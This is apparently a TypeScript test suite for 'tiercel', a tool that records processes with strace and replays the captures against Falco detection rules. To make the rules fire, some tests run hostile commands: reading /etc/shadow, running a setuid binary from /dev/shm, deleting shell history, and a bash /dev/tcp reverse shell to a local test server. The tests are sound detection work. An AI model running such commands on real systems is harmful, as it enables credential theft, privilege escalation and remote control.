import { expect } from 'chai';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir, userInfo } from 'node:os';
import { join } from 'node:path';
import { hasOracle, oraclePath } from '../oracle.ts';
import { hasStrace } from '../strace.ts';

const program = join(import.meta.dirname, '../../dist/tiercel.js');

interface Run {
  readonly status: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

/** Runs the built command, as a user would, while this process goes on. */
async function tiercel(args: readonly string[], env: NodeJS.ProcessEnv = process.env): Promise<Run> {
  const child = spawn(process.execPath, [program, ...args], { env, stdio: ['ignore', 'pipe', 'pipe'] });
  let [stdout, stderr] = ['', ''];
  child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
  child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  const status = await new Promise<number | null>((resolve) => child.once('close', resolve));
  return { status, stdout, stderr };
}

describe('tiercel record', function () {
  this.timeout(60_000);
  let folder: string;
  const file = (name: string) => join(folder, name);
  before(() => (folder = mkdtempSync(join(tmpdir(), 'tiercel-record-'))));
  after(() => rmSync(folder, { recursive: true }));

  /** Records a command; gives the lines that `tiercel show` prints of its events. */
  async function recorded(command: readonly string[], condition: string, fields: string): Promise<string[]> {
    const { status, stderr } = await tiercel(['record', '-q', '-o', file('a.scap'), '--', ...command]);
    expect([status, stderr]).to.deep.equal([0, '']);
    return shown(file('a.scap'), condition, fields);
  }

  async function shown(capture: string, condition: string, fields: string): Promise<string[]> {
    const { stdout } = await tiercel(['show', capture, condition, '--fields', fields, '-q']);
    return stdout.trimEnd().split('\n');
  }

  it('says how to install strace', async () => {
    const { status, stderr } = await tiercel(['record', '-o', file('none.scap'), '--', 'true'], {
      PATH: folderWithMkfifo(),
    });
    expect(status).to.equal(2);
    expect(stderr)
      .to.contain('error: strace is not installed (STRACE_NOT_RUN)')
      .and.contain('apt-get install strace');
    expect(existsSync(file('none.scap'))).to.equal(false);
  });

  /** A PATH on which there is mkfifo and no strace. */
  function folderWithMkfifo(): string {
    writeFileSync(file('mkfifo'), '#!/bin/sh\nexec /usr/bin/mkfifo "$@"\n');
    chmodSync(file('mkfifo'), 0o755);
    return folder;
  }

  if (!hasStrace()) return;

  it('records a command, and tells how it ended', async () => {
    const { status, stdout, stderr } = await tiercel([
      'record',
      '-o',
      file('exit.scap'),
      'sh',
      '-c',
      'echo "$1"; exit 3',
      '--',
      '-o',
    ]);
    expect([status, stdout]).to.deep.equal([0, '-o\n']);
    expect(stderr).to.match(/^sh ended with exit code 3; [\d ]+ events written to .*exit\.scap\n$/);
    const { stderr: json } = await tiercel([
      'record',
      '--json',
      '-o',
      file('exit.scap'),
      '--',
      'sh',
      '-c',
      'kill $$',
    ]);
    expect(JSON.parse(json)).to.deep.include({ created: true, code: 143 });
    expect(await shown(file('exit.scap'), 'evt.type = procexit', 'proc.name,evt.arg.sig')).to.deep.equal([
      'sh\tSIGTERM',
    ]);
  });

  it('shows processes with their parents, arguments and directories', async () => {
    writeFileSync(file('run.sh'), 'cd /\ncat /etc/passwd >/dev/null\nsh -c "exit 0"\n');
    const lines = await recorded(
      ['sh', file('run.sh')],
      'evt.type = execve and evt.rawres = 0',
      'proc.name,proc.cmdline,proc.exepath,proc.pname,proc.cwd,user.uid',
    );
    const [first, cat, shell] = lines.map((line) => line.split('\t'));
    expect(lines).to.have.lengthOf(3);
    expect(first!.slice(0, 2)).to.deep.equal(['sh', `sh ${file('run.sh')}`]);
    // The recorder and strace are no part of what is recorded.
    expect(first![3]).not.to.equal('strace');
    expect(cat).to.deep.equal(['cat', 'cat /etc/passwd', '/usr/bin/cat', 'sh', '/', String(userInfo().uid)]);
    expect(shell!.slice(0, 2)).to.deep.equal(['sh', 'sh -c exit 0']);
  });

  it('knows what was opened before, and its user', async () => {
    const written = await recorded(
      ['cat', '/etc/hostname'],
      'evt.type = write and fd.num = 1',
      'fd.typechar,user.uid',
    );
    expect(written).to.deep.equal([`u\t${userInfo().uid}`]);
  });

  it('makes the same capture of the log that it keeps', async () => {
    const secret = 'TIERCEL_TEST_SECRET';
    const record = ['record', '-q', '--no-env', '-o', file('one.jsonl'), '--keep-log', file('one.strace')];
    const env = { ...process.env, SECRET: secret };
    const { stderr } = await tiercel([...record, '--', 'sh', '-c', 'ls / >/dev/null'], env);
    const again = await tiercel(['convert', '-q', file('one.strace'), '-o', file('two.jsonl')]);
    // Nobody is told to keep the environments that were to be left out.
    expect([stderr, again.status, again.stderr]).to.deep.equal(['', 0, '']);
    expect(readFileSync(file('two.jsonl')).equals(readFileSync(file('one.jsonl')))).to.equal(true);
    for (const name of ['one.strace', 'one.jsonl'])
      expect(readFileSync(file(name), 'latin1')).not.to.contain(secret);
  });

  it('refuses a command that is not there, and an output that cannot be written', async () => {
    const missing = await tiercel(['record', '-o', file('no.scap'), '--', 'no-such-command']);
    expect(missing.status).to.equal(2);
    expect(missing.stderr).to.contain('COMMAND_NOT_RUN');
    const nowhere = await tiercel(['record', '-o', '/nonexistent/x.scap', '--', 'touch', file('touched')]);
    expect([nowhere.status, existsSync(file('touched'))]).to.deep.equal([2, false]);
    const noLog = await tiercel([
      'record',
      '-o',
      file('no.scap'),
      '--keep-log',
      '/nonexistent/x',
      '--',
      'true',
    ]);
    expect(noLog.status).to.equal(2);
    expect(noLog.stderr).to.contain('/nonexistent/x: error: the log cannot be written');
    expect((await tiercel(['record', '--snaplen', 'x', '--', 'true'])).status).to.equal(2);
    expect(existsSync(file('no.scap'))).to.equal(false);
  });

  it('does not record a file that is no program', async () => {
    writeFileSync(file('data'), 'no program');
    const { status, stderr } = await tiercel(['record', '-o', file('no.scap'), '--', file('data')]);
    expect([status, existsSync(file('no.scap'))]).to.deep.equal([2, false]);
    expect(stderr).to.contain('COMMAND_NOT_RUN');
  });

  it('writes nothing but the capture to standard output', async () => {
    const { status, stdout, stderr } = await tiercel([
      'record',
      ...['--no-env', '-q', '-o', '-', '--', 'sh', '-c', 'echo printed'],
    ]);
    expect([status, stderr]).to.deep.equal([0, 'printed\n']);
    expect(stdout.startsWith('\n\r\r\n')).to.equal(true);
  });

  it('sees connections from both ends', async () => {
    const script = `const net = require('node:net');
      const server = net.createServer((socket) => socket.end('hi')).listen(0, '127.0.0.1', () =>
        net.connect(server.address().port, '127.0.0.1').on('data', () => {}).on('close', () => server.close()));`;
    const lines = await recorded(
      [process.execPath, '-e', script],
      'evt.type in (connect, accept4) and fd.l4proto = tcp',
      'evt.type,fd.cip,fd.sip,fd.cport,fd.sport',
    );
    const [connect, accept] = lines.map((line) => line.split('\t'));
    expect([connect![0], accept![0]]).to.deep.equal(['connect', 'accept4']);
    expect(connect!.slice(1, 3)).to.deep.equal(['127.0.0.1', '127.0.0.1']);
    expect(Number(connect![3])).to.be.greaterThan(0);
    expect(accept!.slice(1)).to.deep.equal(connect!.slice(1));
  });

  if (!hasOracle()) return;

  describe('with the rules of Falco', () => {
    const rules = ['falco_rules', 'falco-incubating_rules', 'falco-sandbox_rules'].flatMap((name) => [
      '-r',
      oraclePath('rules', `${name}.yaml`),
    ]);

    /** The names of the rules that a recording fires, in order. */
    async function fired(capture: string): Promise<string[]> {
      const options = ['-o', 'json_output=true', '-o', 'rule_matching=all', '-q'];
      const { stdout } = await tiercel(['replay', capture, ...rules, ...options]);
      const alerts = stdout.split('\n').filter((line) => line !== '');
      return alerts.map((line) => (JSON.parse(line) as { rule: string }).rule);
    }

    async function record(...command: readonly string[]): Promise<string[]> {
      await tiercel(['record', '-q', '-o', file('attack.scap'), ...command]);
      return fired(file('attack.scap'));
    }

    it('fires on who reads /etc/shadow', async () => {
      expect(await record('bash', '-c', 'cat /etc/shadow; true')).to.deep.equal(
        userInfo().uid === 0 ? ['Read sensitive file untrusted'] : [],
      );
    });

    it('fires on a setuid bit, on what is run from /dev/shm, and on the history of a shell', async () => {
      const attack = [
        `cp /bin/true /dev/shm/tiercel-$$`,
        `chmod u+s,+x /dev/shm/tiercel-$$`,
        `/dev/shm/tiercel-$$`,
        `rm /dev/shm/tiercel-$$`,
        `touch ${file('.bash_history')}`,
        `rm ${file('.bash_history')}`,
      ];
      expect(await record('sh', '-c', attack.join('; '))).to.deep.equal([
        'Set Setuid or Setgid bit',
        'Execution from /dev/shm',
        'Modify Shell Configuration File',
        'Delete or rename shell history',
      ]);
    });

    it('fires on a reverse shell in a container', async () => {
      const server = createServer((socket) => socket.end('exit\n').resume());
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const { port } = server.address() as AddressInfo;
      const shell = `exec 5<>/dev/tcp/127.0.0.1/${port}; exec 0<&5 1>&5 2>&5; read line`;
      const rule = 'Redirect STDOUT/STDIN to Network Connection in Container';
      const alerts = await record('--container', 'shop/web:1.2', 'bash', '-c', shell);
      server.close();
      expect(alerts).to.deep.equal([
        // Which fires on every container of docker.
        'Launch Sensitive Mount Container',
        ...[rule, rule, rule],
      ]);
      const seen =
        'container.id,container.image.repository,container.image.tag,proc.vpid,proc.pname,proc.aname[2]';
      const id = createHash('sha256').update('shop/web:1.2').digest('hex').slice(0, 12);
      expect(
        await shown(file('attack.scap'), `evt.type = connect and fd.sport = ${port}`, seen),
      ).to.deep.equal([[id, 'shop/web', '1.2', '1', 'containerd-shim', 'systemd'].join('\t')]);
    });
  });
});
